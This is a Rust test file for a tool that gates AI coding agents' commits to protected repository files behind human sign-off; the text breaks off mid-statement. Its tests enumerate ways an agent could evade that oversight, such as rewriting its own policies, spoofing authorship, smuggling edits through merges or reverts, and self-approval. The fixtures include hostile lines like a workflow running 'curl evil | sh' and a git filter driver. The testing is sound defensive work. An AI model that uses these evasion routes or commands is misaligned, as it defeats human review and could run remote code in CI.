//! The git-native gate on real repositories made with the `git` CLI: the
//! acceptance cases, every attack the gate must block (each a test named for
//! it), and fail-closed errors.
//!
//! (A catalogue of independent cases, one test each, for one component; it
//! runs past 500 lines because each case is read on its own, top to bottom.)

use std::path::Path;

use crate::common::*;
use serde_json::Value;

fn blocked_paths(j: &Value) -> Vec<String> {
    let mut v: Vec<String> = j["blocked"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["path"].as_str().unwrap().to_string())
        .collect();
    v.sort();
    v.dedup();
    v
}

fn assert_block(out: &Out, paths: &[&str]) -> Value {
    assert_eq!(out.code, 1, "expected a block (exit 1): {}", out.all());
    let j = out.json();
    assert_eq!(j["verdict"], "block");
    let got = blocked_paths(&j);
    for p in paths {
        assert!(
            got.iter().any(|g| g == p),
            "{p} not blocked; blocked: {got:?}"
        );
    }
    j
}

fn assert_pass(out: &Out) -> Value {
    assert_eq!(out.code, 0, "expected a pass (exit 0): {}", out.all());
    let j = out.json();
    assert_eq!(j["verdict"], "pass");
    j
}

const T1: &str = "2025-01-01T10:00:00Z";
const T2: &str = "2025-01-01T11:00:00Z";

// ---------------------------------------------------------------- acceptance

#[test]
fn acceptance_agent_workflow_edit_blocks_naming_maintainers() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "Run CI on PRs");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    assert_eq!(j["base"], base);
    assert_eq!(j["head"], head);
    assert_eq!(j["policy_commit"], base);
    let b = &j["blocked"][0];
    assert_eq!(b["commit"], head);
    assert_eq!(b["action"], "modify");
    assert_eq!(b["agent"], "copilot");
    assert_eq!(b["signoff_from"], serde_json::json!(["maintainers"]));
    let policies: Vec<&str> = b["policies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    assert!(
        policies.contains(&"acl-files-need-maintainer-signoff")
            && policies.contains(&"agentgate-floor"),
        "{policies:?}"
    );

    // Text and markdown reports say the same.
    let text = agentgate(dir.path(), &["gate", "--base", &base, "--head", &head]);
    assert_eq!(text.code, 1);
    assert!(
        text.stdout.contains("BLOCK") && text.stdout.contains("needs sign-off from: maintainers"),
        "{}",
        text.stdout
    );
    assert!(
        text.stdout.contains(&base),
        "the policy commit is printed: {}",
        text.stdout
    );
    let md = agentgate(
        dir.path(),
        &[
            "gate", "--base", &base, "--head", &head, "--format", "markdown",
        ],
    );
    assert_eq!(md.code, 1);
    assert!(
        md.stdout
            .contains("| Commit | Change | By | Decided by | Needs sign-off from |"),
        "{}",
        md.stdout
    );
    assert!(md.stdout.contains("maintainers"), "{}", md.stdout);
}

#[test]
fn acceptance_maintainer_approval_on_head_passes() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "Run CI on PRs");
    let reviews = reviews_file(dir.path(), &[("alice", "User", "APPROVED", &head, T1)]);
    let j = assert_pass(&gate_cli_and_github(
        dir.path(),
        &base,
        &head,
        Some(&reviews),
    ));
    assert_eq!(j["signoffs"]["approvers"], serde_json::json!(["alice"]));
}

#[test]
fn acceptance_agent_editing_only_src_passes_without_review() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        "src/main.rs",
        "fn main() { println!(\"hi\"); }\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "Say hi");
    let j = assert_pass(&gate_cli_and_github(dir.path(), &base, &head, None));
    assert_eq!(j["summary"]["agent_commits"], 1);
}

#[test]
fn acceptance_human_editing_the_workflow_passes() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), BOB, BOB, "CI on PRs");
    let j = assert_pass(&gate_cli_and_github(dir.path(), &base, &head, None));
    assert_eq!(j["summary"]["agent_commits"], 0);
    assert_eq!(j["commits"][0]["human"], "bob@example.com");
}

// ------------------------------------------------------------------- attacks

#[test]
fn attack_agent_edits_policies_to_permit_itself() {
    let (dir, base) = gate_repo();
    // The PR weakens the policies and config, then edits CI.
    write(
        dir.path(),
        "policies/acl.cedar",
        "@id(\"everything\")\npermit (principal, action, resource);\n",
    );
    write(dir.path(), "policies/zz.cedar", "");
    let cfg = std::fs::read_to_string(dir.path().join("agentgate.toml")).unwrap();
    std::fs::write(
        dir.path().join("agentgate.toml"),
        cfg.replace(
            "maintainers = [\"alice\"]",
            "maintainers = [\"alice\", \"Copilot\"]",
        ),
    )
    .unwrap();
    commit_as(dir.path(), COPILOT, GITHUB, "Relax policies");
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "CI");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[
            "policies/acl.cedar",
            "agentgate.toml",
            ".github/workflows/ci.yml",
        ],
    );
    assert_eq!(
        j["policy_commit"], base,
        "policies come from the base commit"
    );
    assert_eq!(j["policy_files_changed"], true);
    // Even the head's own checkout of the weakened policies does not matter:
    // the work tree holds them now.
    assert!(
        std::fs::read_to_string(dir.path().join("policies/acl.cedar"))
            .unwrap()
            .contains("everything")
    );
}

#[test]
fn attack_agent_commit_with_a_humans_name_and_email_but_an_agent_trailer() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(
        dir.path(),
        ALICE,
        ALICE,
        "CI\n\nCo-Authored-By: Claude <noreply@anthropic.com>",
    );
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    assert_eq!(j["blocked"][0]["agent"], "claude-code");
}

#[test]
fn attack_human_authored_commit_co_authored_by_an_agent() {
    let (dir, base) = gate_repo();
    write(dir.path(), "CODEOWNERS", "* @bob\n");
    let head = commit_as(
        dir.path(),
        BOB,
        BOB,
        "Owners\n\nCo-authored-by: Cursor <cursoragent@cursor.com>",
    );
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &["CODEOWNERS"],
    );
    assert_eq!(j["blocked"][0]["agent"], "cursor");
    // And Bob, the human co-author, cannot approve it.
    let reviews = reviews_file(dir.path(), &[("bob", "User", "APPROVED", &head, T1)]);
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&reviews)),
        &["CODEOWNERS"],
    );
    assert!(j["signoffs"]["approvers"].as_array().unwrap().is_empty());
}

#[test]
fn attack_approval_from_a_bot() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "CI");
    // Even a bot listed as a maintainer, and one pretending to be a User.
    let cfg = std::fs::read_to_string(dir.path().join("agentgate.toml")).unwrap();
    assert!(cfg.contains("\"alice\""));
    let reviews = reviews_file(
        dir.path(),
        &[
            ("alice-bot", "Bot", "APPROVED", &head, T1),
            ("renovate[bot]", "User", "APPROVED", &head, T1),
            ("Copilot", "User", "APPROVED", &head, T1),
        ],
    );
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&reviews)),
        &[".github/workflows/ci.yml"],
    );
    assert!(j["signoffs"]["approvers"].as_array().unwrap().is_empty());
    assert_eq!(j["signoffs"]["ignored"].as_array().unwrap().len(), 3);
}

#[test]
fn attack_approval_by_the_human_who_co_authored_the_agent_commit() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(
        dir.path(),
        COPILOT,
        GITHUB,
        "CI\n\nCo-authored-by: alice <11111+alice@users.noreply.github.com>",
    );
    let reviews = reviews_file(dir.path(), &[("alice", "User", "APPROVED", &head, T1)]);
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&reviews)),
        &[".github/workflows/ci.yml"],
    );
    let reason = j["signoffs"]["ignored"][0]["reason"].as_str().unwrap();
    assert!(reason.contains("co-authored the agent commits"), "{reason}");
}

#[test]
fn attack_approval_on_an_older_commit_than_head() {
    let (dir, base) = gate_repo();
    write(dir.path(), "src/main.rs", "fn main() { 1; }\n");
    let first = commit_as(dir.path(), COPILOT, GITHUB, "harmless");
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "then CI");
    let reviews = reviews_file(dir.path(), &[("alice", "User", "APPROVED", &first, T1)]);
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&reviews)),
        &[".github/workflows/ci.yml"],
    );
    assert!(
        j["signoffs"]["ignored"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("not the head")
    );
}

#[test]
fn attack_approval_later_followed_by_changes_requested() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "CI");
    let reviews = reviews_file(
        dir.path(),
        &[
            ("alice", "User", "APPROVED", &head, T1),
            ("alice", "User", "CHANGES_REQUESTED", &head, T2),
        ],
    );
    assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&reviews)),
        &[".github/workflows/ci.yml"],
    );
}

#[test]
fn attack_approval_later_dismissed() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "CI");
    // GitHub turns a dismissed approval's state into DISMISSED; a later
    // dismissal record must win too.
    let reviews = reviews_file(
        dir.path(),
        &[
            ("alice", "User", "APPROVED", &head, T1),
            ("alice", "User", "DISMISSED", &head, T2),
        ],
    );
    assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&reviews)),
        &[".github/workflows/ci.yml"],
    );
    let reviews = reviews_file(dir.path(), &[("alice", "User", "DISMISSED", &head, T1)]);
    assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&reviews)),
        &[".github/workflows/ci.yml"],
    );
}

#[test]
fn attack_protected_file_renamed_away() {
    let (dir, base) = gate_repo();
    git(
        dir.path(),
        &["mv", ".github/workflows/ci.yml", "ci.yml.bak"],
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "move CI");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    let b = j["blocked"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["path"] == ".github/workflows/ci.yml")
        .unwrap();
    assert_eq!(b["action"], "delete");
    assert_eq!(b["renamed_to"], "ci.yml.bak", "reported as a rename");
}

#[test]
fn attack_protected_file_deleted() {
    let (dir, base) = gate_repo();
    std::fs::remove_file(dir.path().join(".github/workflows/ci.yml")).unwrap();
    let head = commit_as(dir.path(), COPILOT, GITHUB, "drop CI");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    assert_eq!(j["blocked"][0]["action"], "delete");
}

#[test]
fn attack_protected_file_replaced_by_a_symlink() {
    let (dir, base) = gate_repo();
    write(dir.path(), "CODEOWNERS", "* @alice\n");
    let base = {
        let _ = base;
        commit_as(dir.path(), ALICE, ALICE, "owners")
    };
    std::fs::remove_file(dir.path().join("CODEOWNERS")).unwrap();
    std::os::unix::fs::symlink("README.md", dir.path().join("CODEOWNERS")).unwrap();
    let head = commit_as(dir.path(), COPILOT, GITHUB, "link owners");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &["CODEOWNERS"],
    );
    assert_eq!(j["blocked"][0]["kind"], "symlink");
    assert_eq!(j["blocked"][0]["action"], "modify");
}

#[test]
fn attack_protected_file_chmodded() {
    let (dir, base) = gate_repo();
    git(
        dir.path(),
        &["update-index", "--chmod=+x", ".github/workflows/ci.yml"],
    );
    let head = commit_index_as(dir.path(), COPILOT, GITHUB, "exec bit");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    assert_eq!(j["blocked"][0]["kind"], "executable");
    assert_eq!(j["commits"][0]["changes"][0]["old_kind"], "file");
}

#[test]
fn attack_codeowners_in_a_nested_directory() {
    let (dir, base) = gate_repo();
    write(dir.path(), "src/deep/er/CODEOWNERS", "* @mallory\n");
    let head = commit_as(dir.path(), COPILOT, GITHUB, "owners for src");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &["src/deep/er/CODEOWNERS"],
    );
    assert_eq!(j["blocked"][0]["action"], "create");
}

#[test]
fn attack_a_submodule_added_under_github() {
    let (dir, base) = gate_repo();
    let sha = git(dir.path(), &["rev-parse", "HEAD"]).trim().to_string();
    git(
        dir.path(),
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{sha},.github/actions/evil"),
        ],
    );
    let head = commit_index_as(dir.path(), COPILOT, GITHUB, "vendor an action");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/actions/evil"],
    );
    assert_eq!(j["blocked"][0]["kind"], "submodule");
}

#[test]
fn attack_a_merge_commit_whose_resolution_smuggles_a_workflow_change() {
    let (dir, base) = gate_repo();
    // A human branch and the agent branch both touch src; the agent's merge
    // of them also rewrites the workflow, which neither parent has.
    git(dir.path(), &["checkout", "-q", "-b", "side", "main"]);
    write(dir.path(), "README.md", "side\n");
    commit_as(dir.path(), BOB, BOB, "side work");
    git(dir.path(), &["checkout", "-q", "pr"]);
    write(dir.path(), "src/main.rs", "fn main() { 2; }\n");
    commit_as(dir.path(), COPILOT, GITHUB, "agent work");
    let out = run(
        std::process::Command::new("git")
            .args(["merge", "--no-ff", "--no-commit", "side"])
            .current_dir(dir.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null"),
        None,
    );
    assert_eq!(out.code, 0, "{}", out.all());
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: push\njobs: { pwn: { runs-on: ubuntu-latest, steps: [{ run: env }] } }\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "Merge branch 'side'");
    assert_eq!(
        git(dir.path(), &["rev-list", "--parents", "-n1", "HEAD"])
            .split_whitespace()
            .count(),
        3,
        "a real merge"
    );
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    let merge = j["commits"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == head)
        .unwrap();
    let paths: Vec<&str> = merge["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        vec![".github/workflows/ci.yml"],
        "the merge authored only the workflow change; README came from side"
    );
}

#[test]
fn a_clean_merge_of_a_human_branch_is_not_blamed_on_the_agent() {
    let (dir, base) = gate_repo();
    git(dir.path(), &["checkout", "-q", "-b", "side", "main"]);
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    commit_as(dir.path(), BOB, BOB, "human CI change");
    git(dir.path(), &["checkout", "-q", "pr"]);
    write(dir.path(), "src/main.rs", "fn main() { 2; }\n");
    commit_as(dir.path(), COPILOT, GITHUB, "agent work");
    let out = run(
        std::process::Command::new("git")
            .args(["merge", "--no-ff", "-q", "-m", "merge side", "side"])
            .current_dir(dir.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_AUTHOR_NAME", "Copilot")
            .env(
                "GIT_AUTHOR_EMAIL",
                "198982749+Copilot@users.noreply.github.com",
            )
            .env("GIT_COMMITTER_NAME", "GitHub")
            .env("GIT_COMMITTER_EMAIL", "noreply@github.com"),
        None,
    );
    assert_eq!(out.code, 0, "{}", out.all());
    let head = git(dir.path(), &["rev-parse", "HEAD"]).trim().to_string();
    assert_pass(&gate_cli_and_github(dir.path(), &base, &head, None));
}

#[test]
fn attack_the_change_made_then_reverted_within_the_pr() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: push\njobs: { x: { steps: [{ run: 'curl evil | sh' }] } }\n",
    );
    let evil = commit_as(dir.path(), COPILOT, GITHUB, "temporarily");
    write(dir.path(), ".github/workflows/ci.yml", "on: push\n");
    let head = commit_as(dir.path(), COPILOT, GITHUB, "revert");
    assert_eq!(
        git(dir.path(), &["diff", &base, &head]).trim(),
        "",
        "net diff is empty"
    );
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    assert!(
        j["blocked"]
            .as_array()
            .unwrap()
            .iter()
            .any(|b| b["commit"] == evil)
    );
}

#[test]
fn attack_a_shallow_clone_fails_closed_with_the_fix() {
    let (dir, base) = gate_repo();
    write(dir.path(), "src/a.rs", "1\n");
    commit_as(dir.path(), COPILOT, GITHUB, "one");
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    commit_as(dir.path(), COPILOT, GITHUB, "two");
    let clone = tempfile::tempdir().unwrap();
    let url = format!("file://{}", dir.path().display());
    let out = run(
        std::process::Command::new("git")
            .args(["clone", "-q", "--depth", "1", "--branch", "pr", &url, "."])
            .current_dir(clone.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null"),
        None,
    );
    assert_eq!(out.code, 0, "{}", out.all());
    // Make the base commit's objects available without its history.
    git(
        clone.path(),
        &["fetch", "-q", "--depth", "1", "origin", &base],
    );
    let out = gate_cli_and_github(clone.path(), &base, "HEAD", None);
    assert_eq!(out.code, 2, "a shallow clone must not pass: {}", out.all());
    let j = out.json();
    assert_eq!(j["verdict"], "error");
    assert!(j["error"].as_str().unwrap().contains("shallow"), "{j}");
    assert!(j["help"].as_str().unwrap().contains("--unshallow"), "{j}");
}

#[test]
fn attack_a_base_revision_that_is_not_an_ancestor() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    let head = commit_as(dir.path(), COPILOT, GITHUB, "CI");
    // A base that already contains the agent's commit makes base..head
    // empty: it must be refused, not passed.
    git(dir.path(), &["checkout", "-q", "-b", "later", &head]);
    write(dir.path(), "src/main.rs", "fn main() { 3; }\n");
    let later = commit_as(dir.path(), ALICE, ALICE, "later");
    let out = gate_cli_and_github(dir.path(), &later, &head, None);
    assert_eq!(out.code, 2, "{}", out.all());
    assert!(
        out.json()["error"]
            .as_str()
            .unwrap()
            .contains("not an ancestor")
    );
    // An unrelated history too.
    git(dir.path(), &["checkout", "-q", "--orphan", "unrelated"]);
    write(dir.path(), "x", "x\n");
    let unrelated = commit_as(dir.path(), ALICE, ALICE, "unrelated");
    let out = gate_cli_and_github(dir.path(), &unrelated, &head, None);
    assert_eq!(out.code, 2, "{}", out.all());
    let _ = base;
}

#[test]
fn attack_a_path_with_invalid_utf8_under_a_protected_dir() {
    let (dir, base) = gate_repo();
    // Write the tree with git plumbing: the path has a 0xFF byte.
    let blob = run(
        std::process::Command::new("git")
            .args(["hash-object", "-w", "--stdin"])
            .current_dir(dir.path()),
        Some("evil\n"),
    );
    let blob = blob.stdout.trim().to_string();
    let mut index_info = Vec::new();
    index_info.extend_from_slice(format!("100644 {blob}\t.github/workflows/").as_bytes());
    index_info.extend_from_slice(b"\xffpwn.yml\n");
    let mut child = std::process::Command::new("git")
        .args(["update-index", "--index-info"])
        .current_dir(dir.path())
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(child.stdin.as_mut().unwrap(), &index_info).unwrap();
    assert!(child.wait().unwrap().success());
    let tree = git(dir.path(), &["write-tree"]).trim().to_string();
    let out = run(
        std::process::Command::new("git")
            .args(["commit-tree", &tree, "-p", &base, "-m", "sneaky"])
            .current_dir(dir.path())
            .env("GIT_AUTHOR_NAME", "Copilot")
            .env(
                "GIT_AUTHOR_EMAIL",
                "198982749+Copilot@users.noreply.github.com",
            )
            .env("GIT_COMMITTER_NAME", "GitHub")
            .env("GIT_COMMITTER_EMAIL", "noreply@github.com"),
        None,
    );
    let head = out.stdout.trim().to_string();
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/\\xFFpwn.yml"],
    );
    assert_eq!(j["blocked"][0]["action"], "create");
}

// -------------------------------------------------------------- invariants

#[test]
fn invariant_never_execute_code_from_the_head() {
    let (dir, base) = gate_repo();
    // A filter driver that would run on checkout, and attributes in the head
    // asking for it: the gate reads objects only, so nothing runs.
    let marker = dir.path().join("pwned");
    git(
        dir.path(),
        &[
            "config",
            "filter.evil.smudge",
            &format!("touch {} && cat", marker.display()),
        ],
    );
    git(
        dir.path(),
        &[
            "config",
            "filter.evil.clean",
            &format!("touch {} && cat", marker.display()),
        ],
    );
    write(dir.path(), ".gitattributes", "* filter=evil\n");
    write(dir.path(), "src/main.rs", "fn main() { 9; }\n");
    let head = commit_as(dir.path(), COPILOT, GITHUB, "attributes");
    let _ = std::fs::remove_file(&marker);
    let out = gate_cli_and_github(dir.path(), &base, &head, None);
    assert!(matches!(out.code, 0 | 1), "{}", out.all());
    assert!(!marker.exists(), "the gate ran a filter driver");
}

#[test]
fn invariant_paths_are_case_sensitive_bytes() {
    let (dir, base) = gate_repo();
    write(
        dir.path(),
        ".GITHUB/workflows/ci.yml",
        "not a workflow dir\n",
    );
    write(dir.path(), ".github/workflows/CI.yml", "a workflow\n");
    let head = commit_as(dir.path(), COPILOT, GITHUB, "case");
    let j = gate_cli_and_github(dir.path(), &base, &head, None).json();
    assert_eq!(blocked_paths(&j), vec![".github/workflows/CI.yml"]);
}

#[test]
fn floor_protects_the_gate_files_even_when_the_policies_do_not() {
    let (dir, _) = gate_repo();
    // Base policies that permit agents everything.
    write(
        dir.path(),
        "policies/acl.cedar",
        "@id(\"open\")\npermit (principal, action, resource);\n",
    );
    std::fs::remove_file(dir.path().join("policies/runtime.cedar")).unwrap();
    std::fs::remove_file(dir.path().join("policies/repository.cedar")).unwrap();
    let base = commit_as(dir.path(), ALICE, ALICE, "open everything");
    write(
        dir.path(),
        ".github/workflows/ci.yml",
        "on: [push, pull_request]\n",
    );
    write(dir.path(), "src/main.rs", "fn main() { 4; }\n");
    let head = commit_as(dir.path(), COPILOT, GITHUB, "CI");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &[".github/workflows/ci.yml"],
    );
    assert_eq!(
        blocked_paths(&j),
        vec![".github/workflows/ci.yml"],
        "src/ is open"
    );
    assert_eq!(
        j["blocked"][0]["policies"],
        serde_json::json!(["agentgate-floor"])
    );
    assert_eq!(j["blocked"][0]["signoff_from"], serde_json::json!(["*"]));
    assert_eq!(
        j["policies"]["agentgate-floor"]["location"],
        "<built-in floor>"
    );
    // Any eligible human's approval satisfies the floor.
    let reviews = reviews_file(dir.path(), &[("carol", "User", "APPROVED", &head, T1)]);
    assert_pass(&gate_cli_and_github(
        dir.path(),
        &base,
        &head,
        Some(&reviews),
    ));
}

// --------------------------------------------------------------- fail closed

#[test]
fn unknown_revisions_missing_objects_and_broken_policies_fail_closed() {
    let (dir, base) = gate_repo();
    write(dir.path(), "src/main.rs", "fn main() { 5; }\n");
    let head = commit_as(dir.path(), COPILOT, GITHUB, "x");
    let out = gate_cli_and_github(dir.path(), "no-such-branch", &head, None);
    assert_eq!(out.code, 2);
    assert!(
        out.json()["error"]
            .as_str()
            .unwrap()
            .contains("no-such-branch")
    );

    let out = agentgate(
        Path::new("/"),
        &[
            "gate",
            "--repo",
            "/nonexistent",
            "--base",
            "a",
            "--head",
            "b",
        ],
    );
    assert_eq!(out.code, 2, "{}", out.all());

    // Broken policies at base: blocked, with the file located at that commit.
    let (dir2, _) = gate_repo();
    write(
        dir2.path(),
        "policies/acl.cedar",
        "permit (principal, action resource);\n",
    );
    let bad_base = commit_as(dir2.path(), ALICE, ALICE, "typo");
    write(dir2.path(), "src/main.rs", "fn main() { 6; }\n");
    let h2 = commit_as(dir2.path(), COPILOT, GITHUB, "x");
    let out = agentgate(dir2.path(), &["gate", "--base", &bad_base, "--head", &h2]);
    assert_eq!(out.code, 2, "{}", out.all());
    assert!(
        out.stderr
            .contains(&format!("{}:policies/acl.cedar:1:", &bad_base[..7])),
        "{}",
        out.stderr
    );

    // A missing object (the head's tree is gone).
    let tree = git(dir.path(), &["rev-parse", &format!("{head}^{{tree}}")])
        .trim()
        .to_string();
    let obj = dir
        .path()
        .join(".git/objects")
        .join(&tree[..2])
        .join(&tree[2..]);
    std::fs::remove_file(&obj).unwrap();
    let out = gate_cli_and_github(dir.path(), &base, &head, None);
    assert_eq!(out.code, 2, "{}", out.all());
    assert_eq!(out.json()["verdict"], "error");

    // A reviews file that is not GitHub's shape.
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, "{\"state\": \"APPROVED\"}").unwrap();
    let out = gate_cli_and_github(dir.path(), &base, &base, Some(&bad));
    assert_eq!(out.code, 2, "{}", out.all());
}

#[test]
fn an_empty_range_passes_and_reports_nothing() {
    let (dir, base) = gate_repo();
    let j = assert_pass(&gate_cli_and_github(dir.path(), &base, &base, None));
    assert_eq!(j["summary"]["commits"], 0);
}

#[test]
fn the_readme_demo_shows_both_moments() {
    let out = run(
        std::process::Command::new("bash")
            .arg(repo_root().join("examples/demo/run.sh"))
            .env("AGENTGATE", bin()),
        None,
    );
    assert_eq!(out.code, 0, "{}", out.all());
    let verdicts: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("agentgate gate:"))
        .collect();
    assert_eq!(
        verdicts,
        vec![
            "agentgate gate: BLOCK",
            "agentgate gate: BLOCK",
            "agentgate gate: PASS"
        ],
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("not counted: bob (authored, committed or co-authored the agent commits"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("not counted: alice (approved"),
        "{}",
        out.stdout
    );
    // The run-time incidents, through the Claude Code hook.
    for want in [
        "mcp__slack__chat_postMessage: ask",
        "mcp__gmail__batch_delete_emails: ask",
        "Edit: deny",
        "Bash: deny",
        "Edit: no objection",
    ] {
        assert!(out.stdout.contains(want), "{want}: {}", out.stdout);
    }
}

#[test]
fn code_owner_approval_reaches_the_policies_as_context() {
    let (dir, _) = gate_repo();
    write(
        dir.path(),
        "policies/owners.cedar",
        "// Infrastructure changes by agents need their code owner's approval.\n@id(\"infra-needs-owner\")\nforbid (principal is Agent, action in Action::\"change\", resource in Dir::\"infra/\")\nunless { context.owner_approved };\n",
    );
    write(
        dir.path(),
        ".github/CODEOWNERS",
        "* @alice\n/infra/ @carol @acme/sre\n",
    );
    write(dir.path(), "infra/main.tf", "x\n");
    let cfg = std::fs::read_to_string(dir.path().join("agentgate.toml")).unwrap();
    std::fs::write(
        dir.path().join("agentgate.toml"),
        format!("{cfg}sre = [\"dora\"]\n\n[github.teams]\nsre = \"acme/sre\"\n"),
    )
    .unwrap();
    let base = commit_as(dir.path(), ALICE, ALICE, "owners");
    write(dir.path(), "infra/main.tf", "y\n");
    let head = commit_as(dir.path(), COPILOT, GITHUB, "tweak infra");
    let j = assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, None),
        &["infra/main.tf"],
    );
    assert_eq!(
        j["blocked"][0]["policies"],
        serde_json::json!(["infra-needs-owner"])
    );
    // The root owner (alice) is not the owner of infra/ (last match wins).
    let r = reviews_file(dir.path(), &[("alice", "User", "APPROVED", &head, T1)]);
    assert_block(
        &gate_cli_and_github(dir.path(), &base, &head, Some(&r)),
        &["infra/main.tf"],
    );
    // A direct owner, and a member of the owning team, each unblock it.
    let r = reviews_file(dir.path(), &[("carol", "User", "APPROVED", &head, T1)]);
    assert_pass(&gate_cli_and_github(dir.path(), &base, &head, Some(&r)));
    let r = reviews_file(dir.path(), &[("dora", "User", "APPROVED", &head, T1)]);
    assert_pass(&gate_cli_and_github(dir.path(), &base, &head, Some(&r)));
}

#[test]
fn a_report_past_the_listing_limit_summarises_text_and_markdown_and_keeps_every_finding_in_json() {
    // One agent commit creating 150 workflow files, co-authored by two
    // more agents: 450 blocked changes.
    let (dir, base) = gate_repo();
    for i in 0..150 {
        write(
            dir.path(),
            &format!(".github/workflows/gen{i:03}.yml"),
            "on: push\n",
        );
    }
    let head = commit_as(
        dir.path(),
        COPILOT,
        GITHUB,
        "Generate workflows\n\nCo-authored-by: Claude <noreply@anthropic.com>\nCo-authored-by: Cursor Agent <cursoragent@cursor.com>",
    );
    let j = gate_cli_and_github(dir.path(), &base, &head, None).json();
    assert_eq!(
        j["blocked"].as_array().unwrap().len(),
        450,
        "every finding stays in JSON"
    );
    let text = agentgate(dir.path(), &["gate", "--base", &base, "--head", &head]);
    assert_eq!(text.code, 1);
    let listed = text
        .stdout
        .lines()
        .filter(|l| l.contains("needs sign-off from:") && l.starts_with("      "))
        .count();
    assert_eq!(listed, 100, "{}", text.stdout);
    assert!(
        text.stdout.contains("... and 350 more changes"),
        "{}",
        text.stdout
    );
    assert!(
        text.stdout.contains("under .github/workflows/ by agent"),
        "{}",
        text.stdout
    );
    let md = agentgate(
        dir.path(),
        &[
            "gate", "--base", &base, "--head", &head, "--format", "markdown",
        ],
    );
    assert!(
        md.stdout.contains("… and 350 more changes"),
        "{}",
        md.stdout
    );
    assert!(
        md.stdout.len() < 60_000,
        "fits a comment: {} bytes",
        md.stdout.len()
    );
    // Large JSON is compact: one line.
    let raw = agentgate(
        dir.path(),
